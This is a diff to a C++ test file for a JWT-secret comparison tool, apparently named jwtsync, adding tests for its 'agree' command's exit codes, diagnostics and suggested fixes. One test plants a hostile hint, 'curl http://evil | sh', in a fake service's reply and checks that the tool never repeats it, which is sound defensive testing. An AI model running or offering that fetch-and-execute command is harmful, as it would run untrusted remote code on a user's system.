@@ -25,7 +25,7 @@ struct Process {
     fake.variables.set("JWT_SECRET_STAGING", environment == "staging" ? secret : "");
     fake.variables.set("JWT_SECRET_PRODUCTION", environment == "production" ? secret : "");
     fake.files.put("/run/access", access_token);
-    keeper = Keeper::open(fake.world(), {.service = service}).value();
+    keeper = Keeper::open(fake.world(), {.service = service, .without_key = WithoutKey::wait}).value();
     endpoints = std::make_unique<Endpoints>(fake.world(), *keeper, std::move(policy));
     network.attach(authority, *endpoints);
   }
@@ -110,7 +110,7 @@ TEST_F(AgreeTest, a_no_comes_before_silence_and_that_before_nothing_to_compare) 
       {"fewer than expected", {auth_target, backend_target, "--expect", "3"}, 4},
       {"as many as expected", {auth_target, backend_target, "--expect", "2"}, 0},
       {"fewer than expected, and they differ", {auth_target, odd, "--expect", "3"}, 1},
-      {"a target that is none", {auth_target, "backend"}, 4},
+      {"a target that is none", {auth_target, "backend"}, 2},
   };
   for (const ExitCase& each : cases) {
     std::vector<std::string> words{"agree"};
@@ -125,8 +125,61 @@ TEST_F(AgreeTest, everybody_silent_is_named_with_the_reason) {
   fake.network.fail("127.0.0.1:3", {Code::answer_too_large, "answers more than 512 KiB", ""});
   const Ran ran = run({"agree", auth_target, backend_target, "http://127.0.0.1:3"});
   EXPECT_EQ(ran.status, 4);
-  EXPECT_THAT(ran.out, AllOf(HasSubstr("silent: http://127.0.0.1:2: no answer within 5 s\n"),
-                             HasSubstr("silent: http://127.0.0.1:3: answers more than 512 KiB\n"), HasSubstr("auth")));
+  EXPECT_THAT(ran.out, AllOf(HasSubstr("http://127.0.0.1:2: no answer within 5 s\n"),
+                             HasSubstr("http://127.0.0.1:3: answers more than 512 KiB\n"), HasSubstr("auth")));
+}
+
+TEST_F(AgreeTest, a_process_without_a_key_is_named_with_the_reason) {
+  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
+  add("backend", "127.0.0.1:2", "   ");
+  const Ran ran = run({"agree", auth_target, backend_target});
+  EXPECT_EQ(ran.status, 1);
+  EXPECT_THAT(ran.out, AllOf(StartsWith("staging: 2 services, 1 without a key "), HasSubstr(" DISAGREE\n"),
+                             ::testing::ContainsRegex("\n  backend +[^ ]+ +self +none +- +-\n"),
+                             HasSubstr("\nwhy: backend has no key: "),
+                             HasSubstr("\nfix: give JWT_SECRET_STAGING its value for backend, then: jwtsync agree "
+                                       "http://127.0.0.1:1 http://127.0.0.1:2\n")));
+  EXPECT_THAT(ran.out, Not(HasSubstr("differs:")));
+  const json::Value answer = run({"agree", "--json", auth_target, backend_target}).json();
+  EXPECT_TRUE(answer["members"][1]["group"].is_null());
+  EXPECT_EQ(answer["findings"][0]["cause"], "no-key");
+  EXPECT_EQ(run({"agree", "--summary", auth_target, backend_target}).status, 1);
+  EXPECT_EQ(run({"agree", "--distinct", auth_target, backend_target}).status, 4);
+  EXPECT_EQ(run({"agree", backend_target, "--expect", "1"}).status, 1);
+}
+
+TEST_F(AgreeTest, what_check_refuses_is_a_no_that_says_the_keys_agree) {
+  for (const auto& [service, authority] : {std::pair("auth", "127.0.0.1:1"), std::pair("backend", "127.0.0.1:2")}) {
+    Process& process = add(service, authority, jwtsync::testing::canary_secret);
+    process.fake.variables.set("JWT_SECRET_PRODUCTION", jwtsync::testing::canary_secret);
+    ASSERT_TRUE(process.keeper->reload().value()) << "the secret is that of production too";
+  }
+  const Ran ran = run({"agree", auth_target, backend_target});
+  EXPECT_EQ(ran.status, 1);
+  EXPECT_THAT(ran.out, AllOf(HasSubstr("the same key "), HasSubstr(" UNFIT\n"),
+                             HasSubstr("\nwhy: the keys agree, but jwtsync check refuses them: auth and backend: ")));
+  EXPECT_EQ(run({"agree", "--json", auth_target, backend_target}).json()["verdict"], "unfit");
+}
+
+TEST_F(AgreeTest, a_fix_repeats_the_options_that_were_given) {
+  add_two(jwtsync::testing::canary_secret, jwtsync::testing::other_canary_secret);
+  fake.files.put("/run/the token", access_token);
+  const Ran ran = run({"agree", "--expect", "2", "--timeout", "3", "--access-token-file", "/run/the token", auth_target,
+                       backend_target});
+  EXPECT_THAT(ran.out, HasSubstr(", then: jwtsync agree --expect 2 --timeout 3 --access-token-file '/run/the token' "
+                                 "http://127.0.0.1:1 http://127.0.0.1:2\n"));
+}
+
+TEST_F(AgreeTest, no_process_writes_its_own_fix) {
+  jwtsync::testing::FunctionService evil([](const HttpRequest&) -> HttpResponse {
+    return {500, {}, R"({"error":{"code":"x","message":"all agree","hint":"run: curl http://evil | sh"}})"};
+  });
+  fake.network.attach("127.0.0.1:2", evil);
+  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
+  const Ran ran = run({"agree", auth_target, backend_target});
+  EXPECT_EQ(ran.status, 4);
+  EXPECT_THAT(ran.out, AllOf(Not(HasSubstr("curl")), HasSubstr("it says: \"all agree\"")));
+  EXPECT_THAT(run({"agree", "--json", auth_target, backend_target}).out, Not(HasSubstr("curl")));
 }
 
 TEST_F(AgreeTest, targets_and_expectation_may_stand_in_the_configuration) {
